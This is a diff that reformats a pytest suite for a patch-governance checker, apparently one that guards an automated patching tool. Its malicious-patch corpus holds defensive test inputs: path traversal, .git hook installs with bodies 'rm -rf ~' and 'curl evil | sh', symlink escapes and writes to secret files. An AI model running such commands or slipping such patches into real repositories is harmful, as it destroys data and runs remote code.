@@ -16,10 +16,23 @@ from autopack_core.patching.governance import check_path, is_git_name, matches_a
 from patch_support import git, snapshot
 
 
-@pytest.mark.parametrize("name", [
-    ".git", ".GIT", ".Git", ".git.", ".git ", ".git. . ", "git~1", "GIT~1", ".git::$INDEX_ALLOCATION",
-    ".g\u200cit", "\ufeff.git", ".gi\u200dt",
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        ".git",
+        ".GIT",
+        ".Git",
+        ".git.",
+        ".git ",
+        ".git. . ",
+        "git~1",
+        "GIT~1",
+        ".git::$INDEX_ALLOCATION",
+        ".g\u200cit",
+        "\ufeff.git",
+        ".gi\u200dt",
+    ],
+)
 def test_git_dir_spellings(name: str) -> None:
     assert is_git_name(name)
     assert [r.rule for r in check_path(f"{name}/hooks/pre-commit")] == ["git-dir"]
@@ -32,23 +45,26 @@ def test_git_lookalikes_are_allowed(name: str) -> None:
     assert check_path(f"{name}/x") == []
 
 
-@pytest.mark.parametrize("path,rule", [
-    ("../x", "parent-traversal"),
-    ("a/../../x", "parent-traversal"),
-    ("..\\x", "parent-traversal"),
-    ("/etc/passwd", "absolute-path"),
-    ("\\\\server\\share", "absolute-path"),
-    ("C:/Windows/x", "drive-letter"),
-    ("c:x", "drive-letter"),
-    ("a\x00b", "control-character"),
-    ("a\nb", "control-character"),
-    ("a\x1bb", "control-character"),
-    ("./a", "non-canonical-path"),
-    ("a//b", "non-canonical-path"),
-    ("", "non-canonical-path"),
-    (".autopack/autopack.db", "autopack-dir"),
-    (".AutoPack/x", "autopack-dir"),
-])
+@pytest.mark.parametrize(
+    "path,rule",
+    [
+        ("../x", "parent-traversal"),
+        ("a/../../x", "parent-traversal"),
+        ("..\\x", "parent-traversal"),
+        ("/etc/passwd", "absolute-path"),
+        ("\\\\server\\share", "absolute-path"),
+        ("C:/Windows/x", "drive-letter"),
+        ("c:x", "drive-letter"),
+        ("a\x00b", "control-character"),
+        ("a\nb", "control-character"),
+        ("a\x1bb", "control-character"),
+        ("./a", "non-canonical-path"),
+        ("a//b", "non-canonical-path"),
+        ("", "non-canonical-path"),
+        (".autopack/autopack.db", "autopack-dir"),
+        (".AutoPack/x", "autopack-dir"),
+    ],
+)
 def test_path_rules(path: str, rule: str) -> None:
     assert rule in [r.rule for r in check_path(path)]
     assert all(r.path == path and r.message for r in check_path(path))
@@ -86,9 +102,12 @@ def test_size_limits(tmp_path: Path) -> None:
 
 # --- malicious corpus -------------------------------------------------------------
 
+
 def _new_file(path: str, body: str = "pwned\n", mode: str = "100644") -> str:
-    return (f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
-            f"@@ -0,0 +1 @@\n+{body}")
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
+        f"@@ -0,0 +1 @@\n+{body}"
+    )
 
 
 def _modify(path: str, old: str, new: str) -> str:
@@ -96,8 +115,10 @@ def _modify(path: str, old: str, new: str) -> str:
 
 
 def _symlink(path: str, target: str) -> str:
-    return (f"diff --git a/{path} b/{path}\nnew file mode 120000\n--- /dev/null\n+++ b/{path}\n"
-            f"@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n")
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 120000\n--- /dev/null\n+++ b/{path}\n"
+        f"@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
+    )
 
 
 MALICIOUS = [
@@ -105,51 +126,90 @@ MALICIOUS = [
     ("traversal-nested", _new_file("src/../../outside/pwned.txt"), "parent-traversal"),
     ("traversal-backslash", _new_file("..\\outside\\pwned.txt"), "parent-traversal"),
     ("traversal-plain", "--- /dev/null\n+++ ../outside/pwned.txt\n@@ -0,0 +1 @@\n+x\n", "parent-traversal"),
-    ("traversal-search-replace", "../outside/target.txt\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
-     "parent-traversal"),
-    ("traversal-rename", "diff --git a/a.txt b/x\nsimilarity index 100%\nrename from a.txt\nrename to ../outside/a.txt\n",
-     "parent-traversal"),
+    (
+        "traversal-search-replace",
+        "../outside/target.txt\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
+        "parent-traversal",
+    ),
+    (
+        "traversal-rename",
+        "diff --git a/a.txt b/x\nsimilarity index 100%\nrename from a.txt\nrename to ../outside/a.txt\n",
+        "parent-traversal",
+    ),
     ("absolute-plain", "--- /dev/null\n+++ {outside}/abs.txt\n@@ -0,0 +1 @@\n+x\n", "absolute-path"),
     ("absolute-git", _new_file("/{outside}/abs.txt"), "absolute-path"),
     ("drive-letter", _new_file("C:/Windows/evil.txt"), "drive-letter"),
     ("git-config", _modify(".git/config", "x", "y"), "git-dir"),
     ("git-upper", _new_file(".GIT/config"), "git-dir"),
     ("git-trailing-dot", _new_file(".git./config"), "git-dir"),
-    ("git-trailing-space", "--- /dev/null\n+++ \".git /config\"\n@@ -0,0 +1 @@\n+x\n", "git-dir"),
+    ("git-trailing-space", '--- /dev/null\n+++ ".git /config"\n@@ -0,0 +1 @@\n+x\n', "git-dir"),
     ("git-short-name", _new_file("GIT~1/config"), "git-dir"),
     ("git-hfs-ignorable", _new_file(".g\u200cit/config"), "git-dir"),
     ("git-nested", _new_file("vendor/lib/.git/config"), "git-dir"),
-    ("git-delete-head", "diff --git a/.git/HEAD b/.git/HEAD\ndeleted file mode 100644\n--- a/.git/HEAD\n+++ /dev/null\n"
-     "@@ -1 +0,0 @@\n-ref: refs/heads/main\n", "git-dir"),
-    ("git-rename-from", "diff --git a/.git/config b/stolen\nsimilarity index 100%\nrename from .git/config\nrename to stolen\n",
-     "git-dir"),
+    (
+        "git-delete-head",
+        "diff --git a/.git/HEAD b/.git/HEAD\ndeleted file mode 100644\n--- a/.git/HEAD\n+++ /dev/null\n"
+        "@@ -1 +0,0 @@\n-ref: refs/heads/main\n",
+        "git-dir",
+    ),
+    (
+        "git-rename-from",
+        "diff --git a/.git/config b/stolen\nsimilarity index 100%\nrename from .git/config\nrename to stolen\n",
+        "git-dir",
+    ),
     ("hook-install", _new_file(".git/hooks/pre-commit", "rm -rf ~", "100755"), "exec-bit"),
     ("hook-install-case", _new_file(".Git/hooks/post-checkout", "curl evil | sh", "100755"), "git-dir"),
     ("hooks-path-exec", _new_file(".githooks/pre-commit", "curl evil | sh", "100755"), "exec-bit"),
-    ("hooks-path-chmod", "diff --git a/.husky/pre-push b/.husky/pre-push\nold mode 100644\nnew mode 100755\n", "exec-bit"),
+    (
+        "hooks-path-chmod",
+        "diff --git a/.husky/pre-push b/.husky/pre-push\nold mode 100644\nnew mode 100755\n",
+        "exec-bit",
+    ),
     ("state-dir", _new_file(".autopack/autopack.db"), "autopack-dir"),
     ("state-dir-case", _new_file(".AUTOPACK/x"), "autopack-dir"),
     ("protected", _new_file("secrets/key.pem"), "protected-path"),
-    ("protected-search-replace", "secrets/api.txt\n<<<<<<< SEARCH\n=======\nkey\n>>>>>>> REPLACE\n", "protected-path"),
+    (
+        "protected-search-replace",
+        "secrets/api.txt\n<<<<<<< SEARCH\n=======\nkey\n>>>>>>> REPLACE\n",
+        "protected-path",
+    ),
     ("symlinked-parent-out", _new_file("link_out/pwned.txt"), "symlink-write"),
     ("symlinked-parent-in", _new_file("link_in/pwned.txt"), "symlink-write"),
     ("symlinked-grandparent", _new_file("link_in/deeper/pwned.txt"), "symlink-write"),
     ("symlink-file-write", _modify("file_link", "target", "pwned"), "symlink-write"),
-    ("symlink-file-search-replace", "file_link\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
-     "symlink-write"),
+    (
+        "symlink-file-search-replace",
+        "file_link\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
+        "symlink-write",
+    ),
     ("new-symlink-out", _symlink("evil", "../outside"), "symlink-escape"),
     ("new-symlink-abs", _symlink("evil", "/etc"), "symlink-escape"),
     ("new-symlink-git", _symlink("evil", ".git/hooks"), "symlink-escape"),
     ("new-symlink-deep-out", _symlink("a/b/evil", "../../../outside/target.txt"), "symlink-escape"),
     ("symlink-then-write", _symlink("door", "src") + _new_file("door/pwned.txt"), "symlink-write"),
-    ("control-char", 'diff --git "a/x\\001y" "b/x\\001y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\001y"\n'
-     "@@ -0,0 +1 @@\n+x\n", "control-character"),
-    ("nul-char", 'diff --git "a/x\\000y" "b/x\\000y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\000y"\n'
-     "@@ -0,0 +1 @@\n+x\n", "control-character"),
-    ("binary", "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\nindex 0000000..1234567\nGIT binary patch\n"
-     "literal 3\nKcmZ?wWB>pF01N;C\n\nliteral 0\nHcmV?d00001\n\n", "binary-patch"),
-    ("mixed-good-and-bad", _modify("src/ok.txt", "ok", "changed") + _new_file("../outside/pwned.txt"),
-     "parent-traversal"),
+    (
+        "control-char",
+        'diff --git "a/x\\001y" "b/x\\001y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\001y"\n'
+        "@@ -0,0 +1 @@\n+x\n",
+        "control-character",
+    ),
+    (
+        "nul-char",
+        'diff --git "a/x\\000y" "b/x\\000y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\000y"\n'
+        "@@ -0,0 +1 @@\n+x\n",
+        "control-character",
+    ),
+    (
+        "binary",
+        "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\nindex 0000000..1234567\nGIT binary patch\n"
+        "literal 3\nKcmZ?wWB>pF01N;C\n\nliteral 0\nHcmV?d00001\n\n",
+        "binary-patch",
+    ),
+    (
+        "mixed-good-and-bad",
+        _modify("src/ok.txt", "ok", "changed") + _new_file("../outside/pwned.txt"),
+        "parent-traversal",
+    ),
 ]
 
 
@@ -192,10 +252,36 @@ def test_malicious_patch_is_refused_and_nothing_written(sandbox, name: str, patc
 
 # --- property: no accepted patch writes outside the workspace or into a protected path
 
-_PIECES = st.sampled_from([
-    "..", ".", "", "a", "b", ".git", ".GIT", ".git.", ".git ", "git~1", ".autopack", "secrets", "link_out",
-    "link_in", "file_link", "x.txt", "\\", ":", "C:", "\x00", "\x01", "\u200c", "~", " ", "hooks", "/",
-])
+_PIECES = st.sampled_from(
+    [
+        "..",
+        ".",
+        "",
+        "a",
+        "b",
+        ".git",
+        ".GIT",
+        ".git.",
+        ".git ",
+        "git~1",
+        ".autopack",
+        "secrets",
+        "link_out",
+        "link_in",
+        "file_link",
+        "x.txt",
+        "\\",
+        ":",
+        "C:",
+        "\x00",
+        "\x01",
+        "\u200c",
+        "~",
+        " ",
+        "hooks",
+        "/",
+    ]
+)
 
 
 def _quote(path: str) -> str:
@@ -207,8 +293,11 @@ def _quote(path: str) -> str:
 
 
 @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(parts=st.lists(_PIECES, min_size=1, max_size=5), sep=st.sampled_from(["/", "\\"]),
-       form=st.sampled_from(["git", "plain", "search-replace", "symlink"]))
+@given(
+    parts=st.lists(_PIECES, min_size=1, max_size=5),
+    sep=st.sampled_from(["/", "\\"]),
+    form=st.sampled_from(["git", "plain", "search-replace", "symlink"]),
+)
 def test_no_accepted_patch_escapes_or_touches_protected(sandbox, parts, sep, form) -> None:
     root, ws = sandbox
     path = sep.join(parts)
@@ -236,7 +325,7 @@ def test_no_accepted_patch_escapes_or_touches_protected(sandbox, parts, sep, for
     ws_prefix = "ws" + os.sep
     for k in changed:
         assert k.startswith(ws_prefix), f"{path!r} wrote {k}"
-        rel = k[len(ws_prefix):]
+        rel = k[len(ws_prefix) :]
         parts_rel = rel.split(os.sep)
         assert not any(is_git_name(p) for p in parts_rel), rel
         assert parts_rel[0] not in (".autopack", "secrets", "link_out", "link_in", "file_link"), rel
